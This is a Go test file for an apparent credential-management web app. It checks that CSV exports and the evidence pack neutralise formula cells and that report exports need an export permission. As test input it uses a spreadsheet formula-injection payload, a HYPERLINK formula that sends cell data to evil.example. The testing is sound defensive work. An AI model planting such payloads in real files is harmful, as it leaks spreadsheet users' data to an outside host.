package web_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/countersign/countersign/models"
	"github.com/countersign/countersign/models/modeltest"
)

// Cells that a spreadsheet would run as formulas (= + - @ at the start)
// are neutralised in every CSV export and in the evidence pack's CSVs;
// plain negative numbers are kept.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	if _, err := f.store.CreateCredential(ctx, modeltest.Admin, models.CredentialInput{Name: formula, Issuer: "@SUM(1+1)",
		TeamID: f.team.ID, EnvironmentID: f.server.EnvironmentID, KeyType: models.KeyStaticAPIKey, ServerIDs: []uint{f.server.ID}}); err != nil {
		t.Fatal(err)
	}
	manager := f.session(f.users["manager"])
	check := func(name string, data []byte) {
		t.Helper()
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would run as a formula", name, cell)
				}
			}
		}
	}
	rec := f.do(http.MethodGet, "/credentials?format=csv", manager, nil)
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `'=HYPERLINK(`) || !strings.Contains(rec.Body.String(), "'@SUM(1+1)") {
		t.Fatalf("credentials CSV: %d\n%s", rec.Code, rec.Body.String())
	}
	check("credentials.csv", rec.Body.Bytes())

	rec = f.do(http.MethodGet, "/reports/evidence?days=30", manager, nil)
	if rec.Code != http.StatusOK {
		t.Fatalf("evidence pack: %d", rec.Code)
	}
	zr, err := zip.NewReader(bytes.NewReader(rec.Body.Bytes()), int64(rec.Body.Len()))
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, file := range zr.File {
		if !strings.HasSuffix(file.Name, ".csv") {
			continue
		}
		r, _ := file.Open()
		data, _ := io.ReadAll(r)
		r.Close()
		check(file.Name, data)
		seen = seen || bytes.Contains(data, []byte(`'=HYPERLINK(`))
	}
	if !seen {
		t.Error("the evidence pack holds no neutralised credential name")
	}
}

// Every report's CSV needs the export permission: an admin reads the
// rotation report but may not export it (as with the review report), and
// is not offered the button; a manager may.
func TestReportExportsNeedTheExportPermission(t *testing.T) {
	f := newFixture(t)
	admin, manager := f.session(f.users["admin"]), f.session(f.users["manager"])
	for _, path := range []string{"/reports/rotations?format=csv", "/reports/reviews?format=csv"} {
		if rec := f.do(http.MethodGet, path, admin, nil); rec.Code != http.StatusForbidden {
			t.Errorf("admin %s: %d, want 403", path, rec.Code)
		}
		if rec := f.do(http.MethodGet, path, manager, nil); rec.Code != http.StatusOK {
			t.Errorf("manager %s: %d, want 200", path, rec.Code)
		}
	}
	exportLink := `a[href*="format=csv"]`
	if n := parse(t, f.do(http.MethodGet, "/reports/rotations", admin, nil)).Find(exportLink).Length(); n != 0 {
		t.Error("the admin is offered the rotation report's CSV")
	}
	if n := parse(t, f.do(http.MethodGet, "/reports/rotations", manager, nil)).Find(exportLink).Length(); n != 1 {
		t.Error("the manager is not offered the rotation report's CSV")
	}
}
